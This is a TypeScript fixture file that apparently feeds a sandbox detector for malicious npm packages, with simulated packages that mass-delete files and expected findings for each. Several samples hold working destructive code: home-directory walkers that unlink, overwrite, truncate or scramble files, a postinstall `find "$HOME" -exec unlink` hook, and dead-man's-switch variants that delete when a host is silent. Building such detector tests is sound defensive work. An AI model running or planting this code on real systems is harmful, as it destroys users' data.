import { armed, finding, fires, hooked, latchCommand, pkg, quiet, type Simulant, text } from './simulant.ts';

const deleted = finding('destroy.mass-delete', 'critical', [['file.delete', 'file.write', 'file.rename']], {
  atLeast: 10,
  phase: ['install', 'import', 'execute'],
});
const deletedInR2 = { ...deleted, runs: ['r2'] as const };
const gate = finding(
  'evade.blocked-egress',
  'high',
  [
    ['net.connect', 'net.dns', 'net.http'],
    ['file.delete', 'file.write'],
  ],
  {
    runs: ['r2'],
    phase: ['install', 'import', 'execute'],
  },
);

/** Walks the decoy home, leaving the package manager's folders alone so that the run can go on. */
const walk = text`
  const fs = require('node:fs'), os = require('node:os'), path = require('node:path');
  module.exports = function targets() {
    const found = [];
    const visit = (folder, depth) => {
      for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
        const full = path.join(folder, entry.name);
        if (/^(node_modules|\.npm|\.cache|\.nvm)$/.test(entry.name) || __dirname.startsWith(full)) continue;
        if (entry.isDirectory() && depth < 4) visit(full, depth + 1);
        else if (entry.isFile() && found.length < 60) found.push(full);
      }
    };
    visit(os.homedir(), 0);
    return found;
  };
`;

/** B04: decoy files outside its own folder are deleted or overwritten in numbers. */
export const destroy: readonly Simulant[] = [
  {
    id: 'b04-deletes-home',
    row: 'B04',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked('b04-delete', armed`for (const file of require('./targets')()) require('node:fs').unlinkSync(file);`, {
        'targets.js': walk,
      }),
    ],
    expect: fires('malicious', [deleted]),
    note: 'Up to sixty decoy files of the sandbox home, one unlink each.',
  },
  {
    id: 'b04-overwrites-home-at-import',
    row: 'B04',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg('b04-overwrite', {
        'index.js': armed`
          for (const file of require('./targets')()) require('node:fs').writeFileSync(file, 'simulant\n');
          module.exports = (rows) => rows;
        `,
        'targets.js': walk,
      }),
    ],
    expect: fires('malicious', [deleted]),
    note: 'Overwritten with a marker, at import.',
  },
  {
    id: 'b04-deletes-when-egress-is-blocked',
    row: 'B04',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg('b04-blocked', {
        'index.js': armed`
          require('node:http').get('http://alive.simulant.invalid/', (answer) => answer.resume()).on('error', () => {
            for (const file of require('./targets')()) require('node:fs').rmSync(file);
          });
          module.exports = (rows) => rows;
        `,
        'targets.js': walk,
      }),
    ],
    expect: fires('malicious', [deletedInR2, gate], { runs: ['r2'] }),
    note: 'A dead man’s switch: nothing is deleted while its host answers.',
  },
  {
    id: 'b04-evasion-native-find',
    row: 'B04',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b04-find',
        {
          'tidy.sh': text`
            #!/bin/sh
            find "$HOME" -maxdepth 4 -type f -not -path '*/.npm/*' -not -path '*/node_modules/*' -not -path "$INIT_CWD/*" -size -64k -exec unlink {} \; 2> /dev/null
            exit 0
          `,
        },
        { scripts: { postinstall: `${latchCommand}sh tidy.sh` } },
      ),
    ],
    expect: fires('malicious', [deleted]),
    note: 'One process per file, none of them Node.',
  },
  {
    id: 'b04-evasion-scrambles-and-renames',
    row: 'B04',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg('b04-scramble', {
        'index.js': armed`
          const { Worker } = require('node:worker_threads');
          new Worker(require('node:path').join(__dirname, 'w.js')).unref();
          module.exports = (rows) => rows;
        `,
        'w.js': text`
          const fs = require('node:fs');
          for (const file of require('./targets')()) {
            const handle = fs.openSync(file, 'r+');
            const bytes = fs.readFileSync(handle).reverse();
            fs.writeSync(handle, bytes, 0, bytes.length, 0);
            fs.closeSync(handle);
            fs.renameSync(file, file + '.kept');
          }
        `,
        'targets.js': walk,
      }),
    ],
    expect: fires('malicious', [deleted]),
    note: 'Ransom-like and undone by reversing twice: bytes backwards in place, another suffix, in a worker.',
  },
  {
    id: 'b04-evasion-blocked-after-three-tries',
    row: 'B04',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      hooked(
        'b04-tries',
        armed`
          const { lookup } = require('node:dns').promises;
          const alive = (name) => fetch('http://' + name + '/s', { signal: AbortSignal.timeout(1500) }).then(() => true, () => lookup(name).then(() => false, () => false));
          (async () => {
            for (const name of ['a.beat.simulant.invalid', 'b.beat.simulant.invalid', 'c.beat.simulant.test']) if (await alive(name)) return;
            const run = require('node:child_process').spawn(process.execPath, [require.resolve('./late')], { detached: true, stdio: 'ignore', env: { HOME: process.env.HOME } });
            run.unref();
          })();
        `,
        {
          'late.js': text`for (const file of require('./targets')()) require('node:fs').truncateSync(file, 0);`,
          'targets.js': walk,
        },
      ),
    ],
    expect: fires('malicious', [deletedInR2, gate], { runs: ['r2'] }),
    note: 'Three hosts must be silent; then an orphan truncates.',
  },
  {
    id: 'b04-neighbour-cleans-own-cache',
    row: 'B04',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('n04-clean', {
        'index.js': text`
          const fs = require('node:fs'), os = require('node:os'), path = require('node:path');
          const cache = path.join(os.homedir(), '.cache', 'simulant-n04-clean');
          const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'n04-'));
          fs.mkdirSync(cache, { recursive: true });
          for (let i = 0; i < 30; i++) {
            fs.writeFileSync(path.join(cache, i + '.json'), '{}');
            fs.writeFileSync(path.join(scratch, i + '.tmp'), '');
          }
          fs.rmSync(scratch, { recursive: true });
          exports.clear = () => fs.rmSync(cache, { recursive: true, force: true });
          exports.clear();
        `,
      }),
    ],
    expect: quiet(['destroy.', 'tamper.', 'evade.', 'persist.']),
    note: 'Sixty deletions, all of files it made itself.',
  },
  {
    id: 'b04-neighbour-offline-fallback',
    row: 'B04',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n04-offline',
        {
          'index.js': text`
            const shipped = require('./rates.json');
            exports.rates = async function rates() {
              try { return await (await fetch('https://rates.acme.test/now.json')).json(); } catch { return shipped; }
            };
          `,
          'rates.json': '{"a":1}\n',
        },
        { homepage: 'https://rates.acme.test/' },
      ),
    ],
    expect: quiet(['destroy.', 'evade.', 'net.import-egress'], { allowed: { 'net.egress': 'low' } }),
    note: 'Does something else when egress is refused: uses the shipped table.',
  },
];
